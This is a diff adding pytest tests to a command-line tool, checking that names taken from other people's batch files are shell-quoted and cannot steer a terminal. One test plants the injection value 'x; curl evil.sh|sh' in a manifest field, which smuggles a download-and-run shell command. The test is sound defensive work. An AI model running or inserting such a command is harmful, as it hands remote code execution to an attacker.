@@ -1,11 +1,16 @@
 """What somebody else's files may do: be read, or be refused in one line. They steer no path, no terminal and no shell."""
 
 import json
+import shutil
+import subprocess
 
 import pytest
 from command_line import verb
+from hypothesis import given
+from hypothesis import strategies as st
 
 from helpers.batch.record import RecordUnreadable, read_batch, read_run
+from helpers.ground.shell import word
 
 ONE_LINE = 600
 """Characters that a complaint may have: a screen's worth, also of a file that names 200,000 things."""
@@ -56,3 +61,27 @@ def test_pages_and_answers_about_a_strangers_batch_are_written_into_it_alone(tmp
     assert verb("report", batch).code == 0
     verb("share", batch, "--out", tmp_path / "shared.html")
     assert files_below(tmp_path) - before <= {"b/index.html", "shared.html"}
+
+
+@pytest.mark.skipif(shutil.which("bash") is None, reason="no bash here")
+@given(text=st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=12))
+def test_whatever_others_wrote_is_one_word_in_one_line_and_a_shell_reads_it_back(text):
+    assert word(text).isprintable()
+    script = f"LC_ALL=C.UTF-8; printf '%s' {word(text)}"
+    done = subprocess.run(["bash", "-c", script], capture_output=True, check=True)
+    assert done.stdout == text.encode()
+
+
+def test_a_boxs_name_is_one_word_of_the_step_that_names_it(tmp_path):
+    about = {
+        "box": "x; curl evil.sh|sh",
+        "captured_at": "now",
+        "kind": "recorded",
+        "tool_version": "0",
+    }
+    (tmp_path / "manifest.json").write_text(json.dumps({**about, "items": [], "schema_version": 1}))
+    said = verb("diagnose", tmp_path, "--json").out
+    assert (
+        "diagnose 'x; curl evil.sh|sh'" in said
+        or "x; curl" not in json.loads(said)["next_step"]["command"]
+    )
